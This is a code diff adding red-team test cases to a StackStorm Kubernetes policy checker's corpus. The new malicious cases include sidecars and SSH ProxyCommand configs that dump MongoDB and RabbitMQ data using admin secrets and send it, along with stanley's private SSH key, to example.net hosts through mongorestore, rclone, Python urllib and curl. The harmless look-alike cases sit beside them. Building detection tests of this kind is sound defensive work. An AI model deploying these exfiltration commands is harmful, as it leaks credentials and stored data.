@@ -22,18 +22,26 @@
  *   echo of a download, python requests to st2api pass;
  * - an unpinned `git clone` into the packs volume from the st2actionrunner
  *   image (ST2-SEC-024, as `st2 pack install` of a branch); a version tag,
- *   a clone then a commit checked out, a clone outside the packs pass.
+ *   a clone then a commit checked out, a clone outside the packs pass;
+ * - store data and st2's SSH key sent by programs the send list did not know
+ *   (ST2-SEC-016): mongodump piped into mongorestore at an outside --uri or
+ *   --host, rclone rcat to an inline sftp remote or a named remote, python
+ *   reading RabbitMQ's definitions with the admin password and POSTing them
+ *   out, an ssh config's ProxyCommand (st2's Paramiko runner runs it with
+ *   `[ssh_runner] use_ssh_config`) posting stanley's key; a copy into the
+ *   cluster, an inline MinIO remote in the cluster, the local API read, a
+ *   bastion ProxyCommand pass.
  */
 import type { RedTeamCase } from './corpus.js';
 import { bodyCase, type CaseBody } from './case-body.js';
-import { DEPLOY, STS, patch, SPEC } from './targets.js';
+import { DEPLOY, ST2_CONF, STS, patch, SPEC, userConf } from './targets.js';
 
 const LIMITS = { requests: { cpu: '5m', memory: '8Mi' }, limits: { cpu: '50m', memory: '32Mi' } };
 const LOCKED = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, runAsUser: 65534, readOnlyRootFilesystem: true };
 
 /** A sidecar running `command` added to a store's StatefulSet (rabbitmq, mongodb, etcd). */
-const sidecar = (store: string, image: string, command: string[]): CaseBody => ({
-  patches: [patch(STS(store), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'tun', image, command, resources: LIMITS, securityContext: LOCKED } })],
+const sidecar = (store: string, image: string, command: string[], env?: unknown[]): CaseBody => ({
+  patches: [patch(STS(store), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'tun', image, command, resources: LIMITS, securityContext: LOCKED, ...(env ? { env } : {}) } })],
 });
 
 const sh = (script: string): string[] => ['sh', '-c', script];
@@ -49,6 +57,22 @@ const runnerInit = (image: string, command: string[], packs = false): CaseBody =
       path: `${SPEC}/initContainers/-`,
       value: { name: 'boot', image, command, resources: LIMITS, securityContext: LOCKED, ...(packs ? { volumeMounts: [{ name: 'st2-packs-vol', mountPath: '/opt/stackstorm/packs-shared' }] } : {}) },
     }),
+  ],
+});
+
+/** env U and P from the MongoDB admin Secret; P from RabbitMQ's. */
+const ADMIN = [
+  { name: 'U', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'username' } } },
+  { name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } },
+];
+const RABBIT = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-password' } } }];
+
+/** st2's Paramiko runner told to use an ssh config (st2-config key ssh_config, mounted into the runner) with this ProxyCommand. */
+const proxyConfig = (command: string): CaseBody => ({
+  patches: [
+    patch(ST2_CONF, { op: 'add', path: '/data/ssh_config', value: `Host *\n  ProxyCommand ${command}\n` }),
+    userConf('[ssh_runner]', 'use_ssh_config = True', 'ssh_config_file_path = /etc/st2/ssh_config'),
+    patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${SPEC}/containers/0/volumeMounts/-`, value: { name: 'st2-config-vol', mountPath: '/etc/st2/ssh_config', subPath: 'ssh_config' } }),
   ],
 });
 
@@ -170,5 +194,24 @@ export function fresh14Red14aCorpus(): RedTeamCase[] {
   add('safe-git-clone-tag', undefined, runnerInit(RUNNER, ['git', 'clone', '--depth=1', '--branch', 'v1.4.2', 'https://github.com/ops-snippets/stackstorm-helpers.git', '/opt/stackstorm/packs-shared/helpers'], true));
   add('safe-git-clone-then-commit', undefined, runnerInit(RUNNER, sh('git clone https://github.com/ops-snippets/stackstorm-helpers.git /opt/stackstorm/packs-shared/helpers && git -C /opt/stackstorm/packs-shared/helpers checkout 0123456789abcdef0123456789abcdef01234567'), true));
   add('safe-git-clone-no-packs', undefined, runnerInit(RUNNER, ['git', 'clone', '--depth=1', 'https://github.com/ops-snippets/runbooks.git', '/tmp/runbooks']));
+
+  // --- store data and st2's keys sent out by programs the send list did not know (ST2-SEC-016) -----
+  cls = 'secrets';
+  add('mongodump-into-outside-mongorestore', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('while true; do mongodump --archive -u "$U" -p "$P" --authenticationDatabase admin | mongorestore --archive --uri mongodb://copy.example.net:27017; sleep 86400; done'), ADMIN));
+  add('mongodump-into-mongorestore-host', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump --archive -u "$U" -p "$P" | mongorestore --archive --host rs1/db1.example.net:27017,db2.example.net:27017; sleep infinity'), ADMIN));
+  add('mongodump-rclone-rcat-sftp', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive --gzip | rclone rcat ":sftp,host=files.example.net,user=u,pass=p:st2.gz"; sleep infinity'), ADMIN));
+  add('mongodump-rclone-rcat-named-remote', 'ST2-SEC-016', sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive | rclone rcat offsite:st2/dump.archive; sleep infinity'), ADMIN));
+  add(
+    'python-rabbit-definitions-posted',
+    'ST2-SEC-016',
+    sidecar('rabbitmq', 'python:3.11-slim', ['python3', '-c', "import urllib.request,base64,os\nr=urllib.request.Request('http://localhost:15672/api/definitions',headers={'Authorization':'Basic '+base64.b64encode(('admin:'+os.environ['P']).encode()).decode()})\nurllib.request.urlopen('https://collect.example.net/in', data=urllib.request.urlopen(r).read())\n"], RABBIT),
+  );
+  add('ssh-config-proxycommand-posts-key', 'ST2-SEC-016', proxyConfig("python3 -c \"import urllib.request as u,sys;u.urlopen('https://collect.example.net/k',open('/home/stanley/.ssh/stanley_rsa','rb').read())\" %h %p"));
+  add('ssh-config-proxycommand-curl-key', 'ST2-SEC-016', proxyConfig('curl -s -T /home/stanley/.ssh/stanley_rsa https://collect.example.net/k'));
+  // Look-alikes: a copy into the cluster, a dump to a volume, the local API read, a bastion ProxyCommand.
+  add('safe-mongodump-into-cluster-mongorestore', undefined, sidecar('mongodb', 'mongo:4.4.29', sh('mongodump --archive -u "$U" -p "$P" | mongorestore --archive --uri mongodb://mongodb-restore-test.st2-prod.svc:27017; sleep infinity'), ADMIN));
+  add('safe-rclone-inline-in-cluster', undefined, sidecar('mongodb', 'mongo:4.4.29', sh('mongodump -u "$U" -p "$P" --archive | rclone rcat ":s3,provider=Minio,endpoint=http://minio.st2-prod.svc:9000:st2/dump.archive"; sleep infinity'), ADMIN));
+  add('safe-python-reads-rabbit-api', undefined, sidecar('rabbitmq', 'python:3.11-slim', ['python3', '-c', "import urllib.request,base64,os\nr=urllib.request.Request('http://localhost:15672/api/overview',headers={'Authorization':'Basic '+base64.b64encode(('admin:'+os.environ['P']).encode()).decode()})\nopen('/tmp/overview.json','wb').write(urllib.request.urlopen(r).read())\n"], RABBIT));
+  add('safe-ssh-config-bastion', undefined, proxyConfig('ssh -W %h:%p -i /home/stanley/.ssh/stanley_rsa stanley@bastion.example.net'));
   return cases;
 }
